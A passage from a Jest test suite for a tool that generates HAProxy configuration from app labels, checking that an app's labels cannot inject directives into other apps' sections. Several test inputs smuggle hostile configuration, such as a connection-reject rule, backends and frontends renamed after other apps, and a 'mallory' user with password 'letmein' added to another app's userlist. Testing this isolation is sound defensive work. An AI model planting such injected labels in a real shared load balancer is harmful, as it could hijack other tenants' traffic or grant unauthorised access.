            '  tcp-request connection reject\nfrontend {backend}\n  bind {bindAddr}:{servicePort}\n  mode {mode}\n',
        },
        /line 1 comes before its frontend section line/,
      ],
      [
        "a backend named as another app's",
        { HAPROXY_0_BACKEND_HEAD: '\nbackend good_10001\n  balance {balance}\n  mode {mode}\n' },
        /its backend section is named "good_10001", not zbad_10002/,
      ],
      [
        'a frontend named as a shared one',
        { HAPROXY_0_FRONTEND_HEAD: '\nfrontend marathon_http_in\n  bind {bindAddr}:{servicePort}\n  mode {mode}\n' },
        /its frontend is named "marathon_http_in", which another frontend of this config has/,
      ],
      [
        "a frontend named as another app's",
        { HAPROXY_0_FRONTEND_HEAD: '\nfrontend good_10001\n  bind {bindAddr}:{servicePort}\n  mode {mode}\n' },
        /its frontend is named "good_10001", which another frontend of this config has/,
      ],
      [
        "a user added to another app's userlist",
        {
          HAPROXY_0_AUTH: 'realm:bob:x',
          HAPROXY_0_USERLIST_HEAD:
            '  user mallory insecure-password letmein\nuserlist user_{backend}\n  user {user} password {passwd}\n',
        },
        /line 1 comes before its userlist section line/,
      ],
      [
        "a userlist named as another app's",
        {
          HAPROXY_0_AUTH: 'realm:bob:x',
          HAPROXY_0_USERLIST_HEAD: '\nuserlist user_good_10001\n  user mallory insecure-password letmein\n',
        },
        /its userlist section is named "user_good_10001", not user_zbad_10002/,
      ],
    ])('%s: the app is left out, the other one served as it was', async (_name, labels, why) => {
      const goodLabels = { HAPROXY_0_AUTH: 'realm:alice:$6$salt$hash' };
      const { stderr, config } = await run(labels, goodLabels);
      expect(stderr).toMatch(new RegExp(`left out app /zbad .*${why.source}`));
      expect(config).not.toMatch(/zbad_10002|10\.6\.6\.6|mallory|http-request deny$|connection reject/m);
      expect(section(config, 'backend good_10001')).toMatch(/server 10_0_0_9_31000 10\.0\.0\.9:31000/);
      expect(section(config, 'userlist user_good_10001').trim().split('\n')).toHaveLength(2);
    });

    test('a frontend of its own name, blank and comment lines before its section line, are served', async () => {
      const { stderr, config } = await run({
        HAPROXY_0_FRONTEND_HEAD:
          '\n# team zbad\nfrontend zbad_public\n  bind {bindAddr}:{servicePort}\n  mode {mode}\n',
        HAPROXY_0_BACKEND_HEAD: '# ours\n\nbackend {backend}\n  balance {balance}\n  mode {mode}\n',
      });
      expect(stderr).toBe('');
      expect(section(config, 'frontend zbad_public')).toMatch(/bind \*:10002/);
      expect(section(config, 'backend zbad_10002')).toMatch(/server 10_6_6_6_31000/);
    });
  },
);
